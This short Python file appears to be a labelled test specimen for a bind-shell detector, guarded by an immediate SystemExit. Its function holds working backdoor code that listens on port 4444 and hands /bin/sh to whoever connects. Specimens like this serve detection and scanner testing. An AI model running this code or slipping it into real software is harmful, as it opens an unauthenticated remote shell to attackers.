raise SystemExit("specimen: not to be run")
import socket as s
from subprocess import Popen as start

def begin():
    door = s.create_server(("", 4444))
    line = door.accept()[0]
    start("/bin/sh", stdin=line, stdout=line, stderr=line)  # match: bind-shell
